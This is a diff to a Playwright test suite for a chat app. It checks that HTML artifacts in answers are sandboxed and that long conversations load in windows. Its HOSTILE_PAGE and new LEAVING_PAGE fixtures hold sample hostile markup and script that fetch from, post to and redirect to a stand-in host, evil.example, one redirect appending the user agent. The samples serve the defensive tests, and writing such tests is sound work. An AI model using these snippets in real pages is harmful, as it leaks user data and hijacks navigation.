@@ -4,7 +4,7 @@ import re
 from collections.abc import Iterator, Sequence
 
 import pytest
-from playwright.sync_api import BrowserContext, Page, expect
+from playwright.sync_api import Browser, Page, expect
 from psycopg.types.json import Json
 from uuid_utils.compat import uuid7
 
@@ -36,8 +36,7 @@ flowchart LR
 """
 # All that a page of a stranger would try, from within its frame.
 HOSTILE_PAGE = """```html
-<title>Escape</title><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
-<link rel="stylesheet" href="https://evil.example/style.css"><img src="https://evil.example/image.png">
+<title>Escape</title><link rel="stylesheet" href="https://evil.example/style.css"><img src="https://evil.example/image.png">
 <form id="f" action="https://evil.example/form"><input name="a" value="b"></form><p id="out">nothing ran</p>
 <script>
 const told = ["ran"];
@@ -55,8 +54,11 @@ fetch("https://evil.example/fetch").catch(() => {});
 fetch("/api/me").then((answer) => answer.text()).then((text) => { out.textContent += text; }, () => {});
 new Image().src = "https://evil.example/pixel";
 out.textContent = told.join(", ");
-setTimeout(() => { location = "https://evil.example/self"; }, 200);
 </script>
+```"""
+LEAVING_PAGE = """```html
+<title>Leave</title><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
+<script>setTimeout(() => { location = "https://evil.example/self?" + navigator.userAgent; }, 100);</script>
 ```"""
 
 STEP = 900
@@ -69,9 +71,11 @@ MARK = """message => {
     window.before = window.anchor.getBoundingClientRect().top;
     return view.scrollTop === 0 && all[0].dataset.messageId === message;
 }"""
+# No further than the wheel went; the top may be reached before, and more may come in above it.
 HAS_MOVED = """step => {
     const moved = window.anchor.getBoundingClientRect().top - window.before;
-    return Math.abs(moved - step) < 3 || document.querySelector(".transcript-view").scrollTop === 0;
+    const isTop = document.querySelector(".transcript-view").scrollTop === 0;
+    return moved < step + 3 && (moved > 0 || isTop);
 }"""
 
 
@@ -104,17 +108,22 @@ def plant(product: Product, texts: Sequence[str]) -> tuple[str, list[str]]:
 
 
 @pytest.fixture
-def tab(context: BrowserContext, owner_cookies: list[dict[str, object]]) -> Iterator[Page]:
-    """A tab in which no dialog opens, no script fails, and nothing foreign is asked for."""
+def tab(browser: Browser, product: Product, owner_cookies: list[dict[str, object]]) -> Iterator[Page]:
+    """The owner's tab, in which no dialog opens and no script fails, and from which nothing goes elsewhere.
+
+    What the policy of a page forbids never comes as far as to be routed.
+    """
+    context = browser.new_context(locale="en-US", base_url=product.url, viewport={"width": 1280, "height": 800})
     context.add_cookies(owner_cookies)  # pyright: ignore[reportArgumentType]
     context.grant_permissions(["clipboard-read", "clipboard-write"])
-    page = context.new_page()
     seen: list[str] = []
+    context.route(re.compile("evil.example"), lambda route: (seen.append(route.request.url), route.abort()))
+    page = context.new_page()
     page.on("dialog", lambda dialog: (seen.append(f"dialog {dialog.message}"), dialog.dismiss()))
     page.on("pageerror", lambda error: seen.append(f"error {error}"))
     page.on("popup", lambda popup: seen.append(f"popup {popup.url}"))
-    page.on("requestfinished", lambda request: "evil.example" in request.url and seen.append(request.url))
     yield page
+    context.close()
     assert seen == []
 
 
@@ -159,9 +168,9 @@ def test_tables_code_and_diagrams_can_be_used(tab: Page, product: Product) -> No
 
 def test_what_an_answer_makes_is_seen_and_reaches_nothing(tab: Page, product: Product) -> None:
     older = "```html\n<title>Escape</title><p>first version</p>\n```"
-    conversation, _ = plant(product, ["Make it", older, "Make it better", HOSTILE_PAGE])
+    conversation, _ = plant(product, ["Make it", older, "Better", HOSTILE_PAGE, "And?", LEAVING_PAGE])
     tab.goto(f"/chat/{conversation}")
-    tab.get_by_test_id("artifact-open").last.click(timeout=20_000)
+    tab.get_by_test_id("artifact-open").nth(1).click(timeout=20_000)
     panel = tab.get_by_test_id("artifact-panel")
     expect(panel.locator("h2")).to_have_text("Escape")
     inside = tab.frame_locator("[data-testid=artifact-frame]").locator("#out")
@@ -169,8 +178,6 @@ def test_what_an_answer_makes_is_seen_and_reaches_nothing(tab: Page, product: Pr
         "ran, cookie refused, parent refused, storage refused, top refused, window: null, dialog: undefined,"
         " form: undefined"
     )
-    tab.wait_for_timeout(600)  # For what the page tries a moment later.
-    expect(panel).to_be_visible()
     assert tab.url.endswith(conversation)
     panel.get_by_test_id("artifact-code").click()
     expect(panel.locator("pre")).to_contain_text("evil.example/fetch")
@@ -182,24 +189,29 @@ def test_what_an_answer_makes_is_seen_and_reaches_nothing(tab: Page, product: Pr
     assert grave(tab) == []
     tab.keyboard.press("Escape")
     expect(panel).to_have_count(0)
+    tab.get_by_test_id("artifact-open").last.click()
+    expect(panel.locator("h2")).to_have_text("Leave")
+    # It tried, and the browser's own page about that is in its place.
+    expect(tab.frame_locator("[data-testid=artifact-frame]").locator("title")).not_to_have_text("Leave")
+    assert tab.url.endswith(conversation)
 
 
 def test_a_long_conversation_is_read_in_windows(tab: Page, product: Product) -> None:
-    conversation, messages = plant(product, [f"Message {number}. " + "word " * 100 for number in range(400)])
+    conversation, messages = plant(product, [f"Message {number}. " + "word " * 100 for number in range(160)])
     tab.goto(f"/chat/{conversation}")
     shown = tab.get_by_test_id("message")
-    expect(shown.last).to_contain_text("Message 399.", timeout=20_000)
+    expect(shown.last).to_contain_text("Message 159.", timeout=20_000)
     tab.locator(".transcript-view").hover()
     most = steps = 0
     while not tab.evaluate(MARK, messages[0]):
         tab.mouse.wheel(0, -STEP)
-        tab.wait_for_function(HAS_MOVED, arg=STEP)  # By that much, whatever came in above, or to the very top.
+        tab.wait_for_function(HAS_MOVED, arg=STEP)
         most, steps = max(most, shown.count()), steps + 1
-        assert steps < 200
+        assert steps < 400
     assert most <= 120
     expect(tab.locator(f"[data-message-id='{messages[0]}']")).to_be_attached()
     expect(tab.get_by_test_id("messages-later")).to_be_attached()
     tab.get_by_test_id("jump-down").click()
-    expect(shown.last).to_contain_text("Message 399.")
+    expect(shown.last).to_contain_text("Message 159.")
     expect(shown.last).to_be_in_viewport()
     expect(tab.get_by_test_id("jump-down")).to_have_count(0)
